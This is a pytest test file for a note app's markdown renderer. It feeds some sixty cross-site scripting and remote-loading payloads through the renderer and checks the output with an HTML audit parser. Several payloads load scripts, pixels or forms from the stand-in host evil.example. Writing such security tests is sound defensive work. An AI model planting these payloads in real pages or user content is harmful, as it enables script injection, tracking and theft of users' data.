"""Nothing executable survives rendering, and nothing loads from the network."""

from __future__ import annotations

import html as htmllib
import re
from html.parser import HTMLParser

import pytest
from test_render_helpers import render

from notedesk.core.render import RenderOptions

PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    '<img src="x" alt="a>b" onerror="alert(1)">',
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<x-custom onmouseover=alert(1)>hover</x-custom>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    '<a href="javascript:alert(1)">a</a>',
    '<a href=" &#106;avascript:alert(1)">b</a>',
    '<a href="jav&#x09;ascript:alert(1)">c</a>',
    '<a href="vbscript:msgbox(1)">d</a>',
    "[[javascript:alert(1)]]",
    "![[<img src=x onerror=alert(1)>]]",
    "[[x|<script>alert(1)</script>]]",
    "<svg onload=alert(1)><circle r=1 /></svg>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    '<svg><image href="https://evil.example/i.png"/></svg>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<math href="javascript:alert(1)"><mi>x</mi></math>',
    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
    "$\\text{<img src=x onerror=alert(1)>}$",
    "$$\n\\text{</math><script>alert(1)</script>}\n$$",
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<base href="https://evil.example/">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    "<style>body{background:url(https://evil.example/x)}</style>",
    '<div style="background-image:url(https://evil.example/x)">bg</div>',
    '<div style="background:url(&quot;https://evil.example/x&quot;)">bg2</div>',
    '<p style="width: expression(alert(1))">ie</p>',
    '<p style="color: red; behavior: url(x.htc)">htc</p>',
    "<p style=\"background-image: image-set('https://evil.example/x' 1x)\">set</p>",
    "<iframe src=https://evil.example></iframe>",
    '<object data="https://evil.example/x.swf"></object>',
    '<embed src="https://evil.example/x.swf">',
    '<form action="https://evil.example"><input type="submit"><button>go</button></form>',
    '<input type="image" src="https://evil.example/i.png">',
    '<a href="data:text/html,<script>alert(1)</script>">data</a>',
    "![x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
    '<img srcset="https://evil.example/x.png 1x">',
    '<video poster="https://evil.example/p.png" src="https://evil.example/v.mp4"></video>',
    '<audio src="//evil.example/a.mp3"></audio>',
    '<video><source src="https://evil.example/v.mp4"><track src="https://evil.example/t.vtt"></video>',
    "![tracker](https://evil.example/pixel.png)",
    '<img src="HTTPS://evil.example/upper.png">',
    '<table background="https://evil.example/bg.png"><tr><td>t</td></tr></table>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "<template><script>alert(1)</script></template>",
    "<!-- <script>alert(1)</script> -->",
    '```"><script>alert(1)</script>\nx\n```',
    "```mermaid\n</pre><script>alert(1)</script>\n```",
    "> [!note] <img src=x onerror=alert(1)>\n> body",
    '> [!"><script>alert(1)</script>]\n> body',
    "---\ntitle: <script>alert(1)</script>\nup: '[[x\" onmouseover=\"alert(1)]]'\n---\n",
    "---\nbad: {{<img src=x onerror=alert(1)>}}\n---\n",
    '<a href="vault://note/x" onclick="alert(1)">v</a>',
    "<textarea><script>alert(1)</script></textarea>",
    '<select><option>a</option></select><frameset onload="alert(1)">',
]

_LOADING_ATTRS = {"src", "poster", "srcset", "background", "data", "xlink:href", "action"}
_FORBIDDEN_TAGS = {
    "script", "iframe", "object", "embed", "form", "meta", "base", "link", "style",
    "frame", "frameset", "applet", "button", "textarea", "select", "template", "noscript",
}  # fmt: skip


class _Audit(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in _FORBIDDEN_TAGS:
            self.problems.append(f"tag <{tag}>")
        for name, raw in attrs:
            value = htmllib.unescape(raw or "")
            compact = re.sub(r"[\s\x00-\x1f]+", "", value).lower()
            if name.startswith("on"):
                self.problems.append(f"handler {name} on <{tag}>")
            urlish = name in _LOADING_ATTRS or name in {"href", "formaction"}
            # Browsers drop whitespace and control characters inside a scheme.
            if urlish and compact.startswith(("javascript:", "vbscript:")):
                self.problems.append(f"script URL in {name} on <{tag}>")
            if name in _LOADING_ATTRS and re.match(r"^(https?:)?//", compact):
                self.problems.append(f"remote {name} on <{tag}>: {value}")
            safe_data = tag == "img" and re.match(r"^data:image/(png|jpe?g|gif|webp)", compact)
            if name in _LOADING_ATTRS | {"href"} and compact.startswith("data:") and not safe_data:
                self.problems.append(f"data URL in {name} on <{tag}>")
            if name == "style" and re.search(r"url\(|expression|image-set|behavior", compact):
                self.problems.append(f"style trick on <{tag}>: {value}")

    handle_startendtag = handle_starttag


def audit(fragment: str) -> list[str]:
    parser = _Audit()
    parser.feed(fragment)
    parser.close()
    return parser.problems


@pytest.mark.parametrize("payload", PAYLOADS)
def test_payload_is_neutralised(payload: str) -> None:
    out = render(payload).html
    assert audit(out) == [], out


def test_all_payloads_in_one_note() -> None:
    out = render("\n\n".join(PAYLOADS)).html
    assert audit(out) == []


def test_audit_catches_what_it_should() -> None:
    assert audit('<img src="https://x">') and audit("<a onclick=x>") and audit("<script>")
    assert audit('<a href="javascript:x">') and audit('<p style="background:url(x)">')


def test_remote_image_placeholder_shows_url() -> None:
    out = render("![pic](https://example.org/a.png)").html
    assert (
        '<span class="remote-media" data-kind="image" data-url="https://example.org/a.png">' in out
    )
    assert "<img" not in out


def test_remote_images_allowed_by_setting() -> None:
    out = render("![pic](https://example.org/a.png)", options=RenderOptions(allow_remote=True)).html
    assert '<img src="https://example.org/a.png" alt="pic">' in out


def test_safe_raw_html_is_kept() -> None:
    out = render(
        "<details><summary>More</summary>\n\n*hidden*\n\n</details>\n\n<kbd>Ctrl</kbd>"
    ).html
    assert "<details>" in out and "<summary>More</summary>" in out and "<kbd>Ctrl</kbd>" in out
    styled = render('<span style="color: red">red</span>').html
    assert '<span style="color:red">red</span>' in styled


def test_markdown_inside_html_block_not_rendered() -> None:
    out = render("<div>\n*literal*\n</div>").html
    assert "*literal*" in out and "<em>" not in out


def test_inline_data_png_image_is_kept() -> None:
    out = render("![dot](data:image/png;base64,iVBORw0KGgo=)").html
    assert 'src="data:image/png;base64,iVBORw0KGgo="' in out
